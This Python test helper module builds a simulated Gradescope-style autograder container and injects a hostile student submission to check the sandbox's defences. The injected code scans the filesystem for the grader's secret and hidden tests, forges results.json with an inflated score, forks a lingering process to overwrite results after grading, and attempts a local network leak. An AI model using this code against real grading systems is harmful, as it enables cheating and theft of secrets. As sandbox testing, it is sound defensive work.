"""Helpers of the Gradescope tests: a Gradescope-like container on this machine, and the
hostile submission that attacks it."""
import base64
import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

#: Python of Gradescope's default image; the container's venvs are made from it
PYTHON310 = os.path.expanduser("~/.pyenv/versions/3.10.13/bin/python")

# The hostile student: at import of nndl/conv_layers.py it reads every file it can reach
# (the autograder's folders first), looking for the secret and the hidden tests' source,
# tries to write results.json (now, and from a process left behind), opens a connection,
# and reports what it managed in the error message every case then shows. The markers it
# looks for travel base64-encoded, so that its own file does not contain them.
HOSTILE = textwrap.dedent('''
    import base64 as _b64, builtins as _builtins, json as _json, os as _os
    import socket as _socket, time as _time
    def _attack():
        root, port = {root!r}, {port}
        markers = {{name: _b64.b64decode(text).decode() for name, text in {markers!r}.items()}}
        found, budget, read = {{}}, _time.monotonic() + 8, 0
        order = [".", root, "/tmp", "/root", "/home", "/work", "/etc", "/var", "/opt", "/"]
        seen = set()
        for top in order:
            for folder, dirs, files in _os.walk(top):
                if _time.monotonic() > budget:
                    break
                if folder.startswith(("/proc", "/sys", "/dev")) or folder in seen:
                    dirs[:] = []
                    continue
                seen.add(folder)
                for name in files:
                    if _time.monotonic() > budget:
                        break
                    try:
                        with open(_os.path.join(folder, name), "rb") as handle:
                            data = handle.read(4 << 20)
                    except OSError:
                        continue
                    read += 1
                    for key, marker in markers.items():
                        if marker.encode() in data:
                            found.setdefault(key, _os.path.join(folder, name))
        wrote = []
        fake = _json.dumps({{"score": 1000, "output": "HOSTILE"}})
        for target in [root + "/results/results.json", "/autograder/results/results.json"]:
            try:
                with open(target, "w") as handle:
                    handle.write(fake)
                wrote.append(target)
            except OSError:
                pass
        if _os.fork() == 0:  # left behind: writes results.json once grading is over
            _os.setsid()
            for _ in range(40):
                _time.sleep(0.25)
                try:
                    with open(root + "/results/results.json", "w") as handle:
                        handle.write(fake)
                except OSError:
                    pass
            _os._exit(0)
        try:
            _socket.create_connection(("127.0.0.1", port), timeout=2).sendall(b"leak")
            network = "connected"
        except OSError as err:
            network = type(err).__name__
        return {{"found": found, "read": read, "wrote": wrote, "network": network}}
    if not hasattr(_builtins, "_hostile_report"):  # once per process, not at every import
        _builtins._hostile_report = _json.dumps(_attack())
    raise RuntimeError("HOSTILE REPORT " + _builtins._hostile_report)
''')


def hostile(folder, root, port, markers):
    """Make the student in ``folder`` hostile (see :data:`HOSTILE`)."""
    encoded = {k: base64.b64encode(v.encode()).decode() for k, v in markers.items()}
    path = Path(folder) / "nndl" / "conv_layers.py"
    text = path.read_text()
    attack = HOSTILE.format(root=str(root), port=port, markers=encoded)
    path.write_text(text.replace("import numpy as np\n", "import numpy as np\n" + attack, 1))


def hostile_reports(results):
    """Every report the hostile submission left in the tests of ``results.json``."""
    reports, decoder = [], json.JSONDecoder()
    for test in results["tests"]:
        for part in test.get("output", "").split("HOSTILE REPORT ")[1:]:
            try:
                reports.append(decoder.raw_decode(part)[0])
            except ValueError:
                pass
    return reports


# The simulated container: a private mount namespace in which /root holds only pyenv's
# Python (world-readable, as /usr/bin/python3 is in the image), then a seccomp filter that,
# as Docker's default profile, refuses new namespaces and mounts. Run as root.
CONTAINER = textwrap.dedent('''
    import errno, os, sys
    import pyseccomp as s
    rules = s.SyscallFilter(s.ALLOW)
    for name in ("unshare", "setns", "mount", "umount2", "pivot_root"):
        rules.add_rule(s.ERRNO(errno.EPERM), name)
    for flag in (0x00020000, 0x02000000, 0x04000000, 0x08000000, 0x10000000, 0x20000000,
                 0x40000000):  # CLONE_NEWNS, NEWCGROUP, NEWUTS, NEWIPC, NEWUSER, NEWPID, NEWNET
        rules.add_rule(s.ERRNO(errno.EPERM), "clone", s.Arg(0, s.MASKED_EQ, flag, flag))
    rules.add_rule(s.ERRNO(errno.ENOSYS), "clone3")
    rules.load()
    os.execv(sys.argv[1], sys.argv[1:])
''')

MOUNTS = textwrap.dedent('''
    set -e
    hold=$(mktemp -d)
    mount --bind /root/.pyenv "$hold"
    mount -t tmpfs -o mode=0755 tmpfs /root
    mkdir /root/.pyenv
    mount --move "$hold" /root/.pyenv
    exec "$@"
''')


def in_container(argv, env, timeout=600):
    """Run ``argv`` as in a container that refuses namespaces (see :data:`CONTAINER`)."""
    command = ["unshare", "--mount", "--propagation", "private", "sh", "-c", MOUNTS, "sh",
               sys.executable, "-c", CONTAINER, *argv]
    return subprocess.run(command, env=env, capture_output=True, text=True, timeout=timeout)
